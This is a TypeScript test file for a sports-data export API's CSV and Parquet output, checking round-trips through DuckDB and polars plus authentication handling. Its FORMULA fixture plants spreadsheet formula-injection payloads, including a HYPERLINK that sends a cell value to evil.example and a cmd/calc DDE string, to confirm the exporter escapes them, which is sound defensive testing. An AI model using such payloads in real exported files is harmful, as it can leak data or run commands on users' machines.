import fs from 'node:fs';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { DuckDBInstance, type DuckDBConnection } from '@duckdb/node-api';
import pl from 'nodejs-polars';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateLarge } from '../src/archive/large.js';
import { EXPORT_COLUMNS, PARQUET_ROW_GROUP, type Column } from '../src/export/formats.js';
import { auth, engines, listen, tmpDir, testApp, type TestApp } from './helpers.js';
import { runSvc } from './process.js';
import { expectError } from './contract.js';

/**
 * `format=csv|parquet` (docs/decisions.md "Export formats"): each file is read back by DuckDB, an
 * independent reader (and each Parquet file by polars, a second one: nodejs-polars, the engine
 * Python's polars wraps), and compared row for row and column by column with the NDJSON export of the
 * same slice, for the three entities, with odd values (quotes, commas, CR/LF, non-ASCII, nulls,
 * empty strings) placed in each.
 */
const ODD = 'Zürich "FC", 東京\r\nsecond line; 😀 \u2028 é';

/** What a spreadsheet would run as a formula (OWASP "CSV Injection"), planted in each entity below. */
const FORMULA = {
  name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  reason: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  clock: '+1+1',
  label: '-2+3',
  player: '\tplayer:=1+1',
  team: '=1+2',
  eventClock: '\r=cmd',
  statusReason: '=HYPERLINK("http://evil.example","Details")',
};
/** The CSV's text of a cell (docs/decisions.md "Export formats"): a single quote before what would start a formula; a plain number as it is. */
const spreadsheetText = (text: string): string => (/^[=+\-@\t\r]/.test(text) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(text) ? `'${text}` : text);

type Row = Record<string, unknown>;

const isRow = (v: unknown): v is Row => v !== null && typeof v === 'object' && !Array.isArray(v);
const valueAt = (record: Row, p: readonly string[]): unknown => {
  let v: unknown = record;
  for (const k of p) v = isRow(v) ? v[k] : undefined;
  return v;
};

/** Double-quoted SQL identifier (column names hold dots). */
const ident = (name: string) => `"${name.replaceAll('"', '""')}"`;
const lit = (s: string) => `'${s.replaceAll("'", "''")}'`;

async function rows(conn: DuckDBConnection, sql: string): Promise<Row[]> {
  return (await conn.runAndReadAll(sql)).getRowObjectsJS();
}

describe.each(engines())('GET /v1/export?format=csv|parquet read back by DuckDB on %s', (engine) => {
  let t: TestApp;
  let key: string;
  let dir: string;
  let duck: DuckDBInstance;
  let conn: DuckDBConnection;
  beforeAll(async () => {
    t = await testApp({ engine });
    key = await t.key({ products: ['archive'] });
    dir = tmpDir('svc-formats-');
    // Only the extensions DuckDB ships built in (parquet, json): nothing is fetched.
    duck = await DuckDBInstance.create(':memory:', { autoinstall_known_extensions: 'false', threads: '1' });
    conn = await duck.connect();

    // Odd values in each entity of wc 2022 (a closed season: final competitions before today).
    const game = await t.db.kysely.selectFrom('competitions').selectAll().where('season_id', '=', 'wc_2022').where('status', '=', 'final').orderBy('date').limit(1).executeTakeFirstOrThrow();
    const competitors = await t.db.kysely.selectFrom('competitors').selectAll().where('competition_id', '=', game.id).execute();
    // A competition with an odd name, no venue, no start time; one with an empty name.
    for (const [suffix, name] of [['odd', ODD], ['empty', '']] as const) {
      const id = `${game.id}_${suffix}`;
      await t.db.kysely.insertInto('competitions').values({ ...game, id, n: game.n + (suffix === 'odd' ? 100_000 : 100_001), name, venue_id: null, start_time: null, source_key: null }).execute();
      await t.db.kysely.insertInto('competitors').values(competitors.map((c) => ({ ...c, competition_id: id }))).execute();
    }
    // A competition whose name and status reason a spreadsheet would run as formulas.
    const formulaId = `${game.id}_formula`;
    await t.db.kysely.insertInto('competitions').values({ ...game, id: formulaId, n: game.n + 100_002, name: FORMULA.name, status_reason: FORMULA.reason, source_key: null }).execute();
    await t.db.kysely.insertInto('competitors').values(competitors.map((c) => ({ ...c, competition_id: formulaId }))).execute();
    // A play with no player and no clock, an odd source and event type; one with formulas in its clock, period label and player.
    const last = await t.db.kysely.selectFrom('plays').selectAll().where('competition_id', '=', game.id).orderBy('seq', 'desc').limit(1).executeTakeFirstOrThrow();
    await t.db.kysely.insertInto('plays').values({ ...last, seq: last.seq + 1, player_id: null, clock: null, source: ODD, event_type: 'own,goal "x"', points: 0 }).execute();
    await t.db.kysely.insertInto('plays').values({ ...last, seq: last.seq + 2, player_id: FORMULA.player, clock: FORMULA.clock, period_label: FORMULA.label, points: -1 }).execute();
    // Events through the event log: an odd team, a null clock, a provisional link, a non-integral agreement.
    const at = { game_id: `soccer_${game.n}`, competition_id: game.id, season_id: 'wc_2022', sport: 'soccer', league: 'wc', tier: 'confirmed' as const };
    await t.services.events.append([
      { ...at, type: 'score', team: ODD, event_type: 'goal', points: 1, clock: null, ts: '2022-11-20T16:03:04.567Z', agreement: 2 / 3, reporters: 3, latency_ms: 1234, probability: 1, provisional_id: 'evt_x"y', retracted_id: null },
      { ...at, type: 'score_retracted', team: '', event_type: 'a,b', points: -1, clock: "45+2'", ts: '2022-11-20T16:59:59.999Z', agreement: 0, reporters: 0, latency_ms: 0, probability: 1, provisional_id: null, retracted_id: 'evt_z' },
      { ...at, type: 'score', team: FORMULA.team, event_type: '-1', points: -2, clock: FORMULA.eventClock, ts: '2022-11-20T17:00:00.000Z', agreement: 1, reporters: 3, latency_ms: 1, probability: 1, provisional_id: null, retracted_id: null },
      // A status change, with the fields only status events have.
      {
        ...at, type: 'status', team: '', event_type: 'status', points: 0, clock: null, ts: '2022-11-20T17:00:01.000Z', agreement: 1, reporters: 0, latency_ms: 0, probability: 1, provisional_id: null, retracted_id: null,
        status: 'final', previous_status: 'suspended', start_time: '2022-11-20T16:00:00.000Z', reason: FORMULA.statusReason,
      },
    ]);
  }, 120_000);
  afterAll(async () => {
    conn?.closeSync();
    await t?.close();
  });

  const get = (url: string, headers: Record<string, string> = auth(key)) => t.app.inject({ method: 'GET', url, headers });

  async function ndjson(query: string): Promise<Row[]> {
    const res = await get(`/v1/export?${query}`);
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    return res.body === '' ? [] : res.body.slice(0, -1).split('\n').map((l) => JSON.parse(l));
  }

  async function file(query: string, format: 'csv' | 'parquet', name: string): Promise<string> {
    const res = await get(`/v1/export?${query}&format=${format}`);
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    expect(res.headers['content-type']).toBe(format === 'csv' ? 'text/csv; charset=utf-8; header=present' : 'application/vnd.apache.parquet');
    expect(res.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="\\w+_\\w+_\\w+\\.${format}"$`));
    const f = path.join(dir, `${engine}-${name}.${format}`);
    fs.writeFileSync(f, res.rawPayload);
    return f;
  }

  /** A CSV field against the NDJSON value: the same text, null as an empty field. */
  function expectCsvCell(c: Column, cell: unknown, want: unknown, where: string): void {
    if (want === null || want === undefined) return void expect(cell, where).toBeNull();
    expect(typeof cell, where).toBe('string');
    const text = String(cell);
    if (c.kind === 'json') expect(JSON.parse(text), where).toEqual(want);
    else if (c.kind === 'integer' || c.kind === 'number') expect(Number(text), where).toBe(want);
    else expect(text, where).toBe(spreadsheetText(String(want)));
  }

  /** A Parquet value (as selected below) against the NDJSON value. */
  function expectParquetCell(c: Column, cell: unknown, want: unknown, where: string): void {
    if (want === null || want === undefined) return void expect(cell, where).toBeNull();
    if (c.kind === 'timestamp') expect(cell, where).toBe(BigInt(Date.parse(String(want))));
    else if (c.kind === 'json') expect(JSON.parse(String(cell)), where).toEqual(want);
    else expect(cell, where).toBe(want);
  }

  const PARQUET_TYPE: Record<Column['kind'], string> = {
    string: 'VARCHAR',
    json: 'JSON',
    integer: 'INTEGER',
    number: 'DOUBLE',
    boolean: 'BOOLEAN',
    timestamp: 'TIMESTAMP WITH TIME ZONE',
    date: 'DATE',
  };

  for (const entity of ['events', 'plays', 'competitions'] as const) {
    const query = `league=wc&season=2022&entity=${entity}`;
    const columns = EXPORT_COLUMNS[entity];

    it(`${entity}: CSV has a header of dotted columns and the NDJSON's values row for row`, async () => {
      const want = await ndjson(query);
      expect(want.length).toBeGreaterThan(60);
      // Every field of every record has its column: the CSV and Parquet carry what the NDJSON does (a status event's too).
      const leaves = (r: Row, prefix = ''): string[] => Object.entries(r).flatMap(([k, v]) => (isRow(v) && k !== 'state' ? leaves(v, `${prefix}${k}.`) : [`${prefix}${k}`]));
      const names = new Set(columns.map((c) => c.name));
      expect([...new Set(want.flatMap((r) => leaves(r)))].filter((n) => !names.has(n))).toEqual([]);
      const f = await file(query, 'csv', entity);
      const raw = fs.readFileSync(f, 'utf8');
      expect(raw.slice(0, raw.indexOf('\r\n'))).toBe(columns.map((c) => c.name).join(','));
      // Every column as text, an unquoted empty field as NULL and a quoted one as '' (RFC 4180).
      const got = await rows(
        conn,
        `select * from read_csv(${lit(f)}, header=true, all_varchar=true, delim=',', quote='"', escape='"', allow_quoted_nulls=false, auto_detect=false, columns={${columns.map((c) => `${lit(c.name)}: 'VARCHAR'`).join(', ')}})`,
      );
      expect(got.length).toBe(want.length);
      for (let i = 0; i < want.length; i++) {
        for (const c of columns) expectCsvCell(c, got[i][c.name], valueAt(want[i], c.path), `row ${i} ${c.name}`);
      }
      // The odd values made it through as themselves.
      const text = JSON.stringify(got);
      expect(text).toContain(JSON.stringify(ODD).slice(1, -1));
      // No cell would start a formula in a spreadsheet: those that would carry a single quote in front (numbers stay numbers).
      const cells = got.flatMap((r) => Object.values(r)).filter((v): v is string => typeof v === 'string');
      expect(cells.filter((v) => v !== spreadsheetText(v))).toEqual([]);
      const planted = { events: [FORMULA.team, FORMULA.eventClock, FORMULA.statusReason], plays: [FORMULA.clock, FORMULA.label, FORMULA.player], competitions: [FORMULA.name, FORMULA.reason] }[entity];
      for (const f of planted) expect(cells).toContain(`'${f}`);
      // Negative numbers stay numbers: the planted play's points, the planted event's points and its event type '-1' (a plain number).
      if (entity !== 'competitions') expect(cells).toContain(entity === 'plays' ? '-1' : '-2');
      if (entity === 'events') expect(cells).toContain('-1');
    });

    it(`${entity}: Parquet has typed columns (integers, UTC timestamps) and the NDJSON's values row for row`, async () => {
      const want = await ndjson(query);
      const f = await file(query, 'parquet', entity);
      const types = await rows(conn, `select column_name, column_type from (describe select * from read_parquet(${lit(f)}))`);
      expect(types).toEqual(columns.map((c) => ({ column_name: c.name, column_type: PARQUET_TYPE[c.kind] })));
      const select = columns
        .map((c) =>
          c.kind === 'timestamp' ? `epoch_ms(${ident(c.name)}) as ${ident(c.name)}` : c.kind === 'date' ? `strftime(${ident(c.name)}, '%Y-%m-%d') as ${ident(c.name)}` : ident(c.name),
        )
        .join(', ');
      const got = await rows(conn, `select ${select} from read_parquet(${lit(f)})`);
      expect(got.length).toBe(want.length);
      for (let i = 0; i < want.length; i++) {
        for (const c of columns) expectParquetCell(c, got[i][c.name], valueAt(want[i], c.path), `row ${i} ${c.name}`);
      }
    });
  }

  /** The polars type of each column kind: timestamps UTC datetimes, integers 32-bit integers (JSON as cast below). */
  const POLARS_TYPE: Record<Column['kind'], string> = {
    string: 'String',
    json: 'String',
    integer: 'Int32',
    number: 'Float64',
    boolean: 'Bool',
    timestamp: 'Datetime(ms, UTC)',
    date: 'Date',
  };
  const polarsType = (t: pl.DataType): string => ('timeZone' in t && 'timeUnit' in t ? `${t.variant}(${String(t.timeUnit)}, ${String(t.timeZone)})` : t.variant);

  /** A polars value against the NDJSON value: a UTC datetime as a Date of the same instant, a date as that day. */
  function expectPolarsCell(c: Column, cell: unknown, want: unknown, where: string): void {
    if (want === null || want === undefined) return void expect(cell, where).toBeNull();
    if (c.kind === 'timestamp') {
      expect(cell, where).toBeInstanceOf(Date);
      expect(cell instanceof Date ? cell.toISOString() : cell, where).toBe(new Date(String(want)).toISOString());
    } else if (c.kind === 'date') {
      expect(cell, where).toBeInstanceOf(Date);
      expect(cell instanceof Date ? cell.toISOString().slice(0, 10) : cell, where).toBe(want);
    } else if (c.kind === 'json') expect(JSON.parse(String(cell)), where).toEqual(want);
    else {
      if (c.kind === 'integer') expect(Number.isInteger(cell), where).toBe(true);
      expect(cell, where).toBe(want);
    }
  }

  for (const entity of ['events', 'plays', 'competitions'] as const) {
    it(`${entity}: polars reads the Parquet with the NDJSON's values and types row for row`, async () => {
      const query = `league=wc&season=2022&entity=${entity}`;
      const columns = EXPORT_COLUMNS[entity];
      const want = await ndjson(query);
      const f = await file(query, 'parquet', `${entity}-polars`);
      const read = pl.readParquet(f);
      expect(read.columns).toEqual(columns.map((c) => c.name));
      // polars reads a JSON column (BYTE_ARRAY, logical type JSON) as Binary, which nodejs-polars
      // cannot hand to JavaScript: cast in polars to a string (strict, so invalid UTF-8 fails).
      const json = columns.filter((c) => c.kind === 'json').map((c) => pl.col(c.name).cast(pl.Utf8, true));
      const df = json.length > 0 ? read.withColumns(...json) : read;
      expect(Object.fromEntries(df.getColumns().map((s) => [s.name, polarsType(s.dtype)]))).toEqual(Object.fromEntries(columns.map((c) => [c.name, POLARS_TYPE[c.kind]])));
      expect(df.height).toBe(want.length);
      for (const c of columns) {
        const got: unknown[] = df.getColumn(c.name).toArray();
        for (let i = 0; i < want.length; i++) expectPolarsCell(c, got[i], valueAt(want[i], c.path), `row ${i} ${c.name}`);
      }
      if (entity !== 'events') return;
      // The odd values made it through as themselves.
      expect(df.getColumn('team').toArray()).toContain(ODD);
      expect(df.getColumn('team').toArray()).toContain('');
    });
  }

  it('parquet: a larger export is several row groups, all of them read back in order', async () => {
    await generateLarge(t.db, { league: 'xfm', events: 25_000, seasons: 1, firstSeason: 2023, seed: 5, today: new Date(t.clock.now()).toISOString().slice(0, 10) });
    const want = await ndjson('league=xfm&season=2023');
    expect(want.length).toBeGreaterThan(2 * PARQUET_ROW_GROUP);
    const f = await file('league=xfm&season=2023', 'parquet', 'xfm');
    const groups = await rows(conn, `select count(distinct row_group_id)::INTEGER as n from parquet_metadata(${lit(f)})`);
    expect(Number(groups[0].n)).toBe(Math.ceil(want.length / PARQUET_ROW_GROUP));
    const got = await rows(conn, `select id, epoch_ms(ts) as ts from read_parquet(${lit(f)})`);
    expect(got.map((r) => r.id)).toEqual(want.map((r) => r.id));
    expect(got.map((r) => r.ts)).toEqual(want.map((r) => BigInt(Date.parse(String(r.ts)))));
  });

  it('a slice with no rows is a header only (CSV) and a valid empty file (Parquet)', async () => {
    const query = 'league=wc&season=2022&from=1990-01-01&to=1990-01-02';
    expect(await ndjson(query)).toEqual([]);
    const csv = fs.readFileSync(await file(query, 'csv', 'empty'), 'utf8');
    expect(csv).toBe(`${EXPORT_COLUMNS.events.map((c) => c.name).join(',')}\r\n`);
    const f = await file(query, 'parquet', 'empty');
    expect(await rows(conn, `select count(*)::INTEGER as n from read_parquet(${lit(f)})`)).toEqual([{ n: 0 }]);
  });

  it('gzip applies to CSV when asked; Parquet compresses its own pages and is never gzipped', async () => {
    const plain = await get('/v1/export?league=wc&season=2022&format=csv');
    const gz = await get('/v1/export?league=wc&season=2022&format=csv', { ...auth(key), 'accept-encoding': 'gzip' });
    expect(gz.headers['content-encoding']).toBe('gzip');
    expect(gunzipSync(gz.rawPayload).toString('utf8')).toBe(plain.body);
    const pq = await get('/v1/export?league=wc&season=2022&format=parquet', { ...auth(key), 'accept-encoding': 'gzip' });
    expect(pq.headers['content-encoding']).toBeUndefined();
    expect(pq.rawPayload.subarray(0, 4).toString('latin1')).toBe('PAR1');
    expect(pq.rawPayload.subarray(-4).toString('latin1')).toBe('PAR1');
  });

  it('resumes with after like NDJSON: the rows after the given id', async () => {
    const all = await ndjson('league=wc&season=2022');
    const after = String(all[49].id);
    const f = await file(`league=wc&season=2022&after=${after}`, 'parquet', 'after');
    const got = await rows(conn, `select id from read_parquet(${lit(f)})`);
    expect(got.map((r) => r.id)).toEqual(all.slice(50).map((r) => r.id));
  });

  it('svc export --format parquet -o FILE (the compiled CLI, a real process) writes the file DuckDB reads; csv too', async () => {
    const base = (await listen(t)).http;
    for (const format of ['parquet', 'csv'] as const) {
      const out = path.join(dir, `${engine}-cli.${format}`);
      const r = await runSvc(['export', '--league', 'wc', '--season', '2022', '--entity', 'competitions', '--format', format, '-o', out, '--url', base], { SVC_API_KEY: key });
      expect(r.code, r.stderr).toBe(0);
      expect(r.stderr).toContain(`${format.toUpperCase()} file`);
      expect(fs.existsSync(`${out}.part`)).toBe(false);
      const direct = await get(`/v1/export?league=wc&season=2022&entity=competitions&format=${format}`);
      expect(fs.readFileSync(out).equals(direct.rawPayload)).toBe(true);
    }
    const f = path.join(dir, `${engine}-cli.parquet`);
    const want = await ndjson('league=wc&season=2022&entity=competitions');
    const got = await rows(conn, `select id, name from read_parquet(${lit(f)})`);
    expect(got).toEqual(want.map((c) => ({ id: c.id, name: c.name })));
    const bad = await runSvc(['export', '--league', 'wc', '--season', '2022', '--format', 'xlsx', '--url', base], { SVC_API_KEY: key });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/--format must be one of ndjson, csv, parquet/);
  }, 120_000);

  it('bad input: an unknown format is a 400 naming format', async () => {
    for (const format of ['xml', 'CSV', 'json', '']) {
      expectError(await get(`/v1/export?league=wc&season=2022&format=${format}`), 400, 'invalid_request', { code: 'invalid_parameter', param: 'format' });
    }
  });

  it('security: no key, a key without archive, a key of another sport are refused before any byte', async () => {
    const noArchive = await t.key({ products: ['live'] });
    const otherSport = await t.key({ products: ['archive'], sports: ['basketball'] });
    for (const format of ['csv', 'parquet']) {
      const url = `/v1/export?league=wc&season=2022&format=${format}`;
      expectError(await get(url, {}), 401, 'authentication_error');
      expectError(await get(url, auth('svc_test_' + 'x'.repeat(32))), 401, 'authentication_error');
      expectError(await get(url, auth(noArchive)), 403, 'permission_error', { code: 'product_not_in_plan' });
      expectError(await get(url, auth(otherSport)), 403, 'permission_error', { code: 'sport_not_in_scope' });
    }
  });
});
